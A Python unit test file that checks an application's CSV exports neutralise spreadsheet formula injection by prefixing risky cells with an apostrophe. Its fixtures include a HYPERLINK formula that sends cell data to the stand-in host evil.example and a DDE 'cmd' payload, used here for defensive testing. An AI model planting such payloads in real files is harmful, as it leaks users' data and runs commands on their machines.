"""Does a spreadsheet that opens a file of ours show texts of the data instead of running them?"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from components.downloads import _csv
from services.exports.map_files import csv_text
from services.exports.sheets import Item, PlainSheet
from services.spreadsheets import plain_cell, plain_csv, plain_line
from tests.unit.test_finding_downloads import CHOICE

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example?"&A1,"Total")'


@pytest.mark.parametrize("text", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", " =1", "\r=1", "＝1+1"])
def test_a_text_that_would_run_is_shown(text: str) -> None:
    assert plain_cell(text) == f"'{text}"
    assert list(csv.reader(io.StringIO(plain_csv([[1, text]]), newline=""))) == [["1", f"'{text}"]]


@pytest.mark.parametrize("value", ["Noise", "a=b", "", "-5", "+1.5", "-1,200", "1e-9", -5, 0.5, None])
def test_numbers_and_other_texts_stay(value: object) -> None:
    assert plain_cell(value) is value


def test_a_line_that_is_cut_at_its_commas_runs_in_no_part() -> None:
    assert plain_line("# Filters: kind is a,=1+1; b;@x, - y") == "# Filters: kind is a,'=1+1; b;'@x, '- y"
    assert plain_line("# Range: 1 to 3 May 2026, at -1.5") == "# Range: 1 to 3 May 2026, at -1.5"


def test_charts_and_maps_are_written_so() -> None:
    assert f'"\'{EVIL.replace(chr(34), chr(34) * 2)}"' in _csv([["value"], [EVIL]]).decode("utf-8-sig")
    item = Item("k", EVIL, (EVIL, -3.5), None, None, 1.0)
    told, box = (("Filters", f"name is x,{EVIL}"),), (0.0, 0.0, 1.0, 1.0)
    sheet = PlainSheet("T", ("name", "number"), (), (item,), {}, told, (), box, CHOICE)
    text = csv_text(sheet).decode("utf-8-sig")
    assert ",=" not in text and "\n=" not in text and ",-3.5\r\n" in text


def test_every_csv_for_people_is_written_in_one_place() -> None:
    exact = {"services/field/crews.py", "services/packs/creating.py", "data/imports.py"}  # read again by programs
    found = {
        str(path.relative_to(ROOT))
        for folder in ("services", "components", "data")
        for path in (ROOT / folder).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    }
    assert found == exact | {"services/spreadsheets.py"}
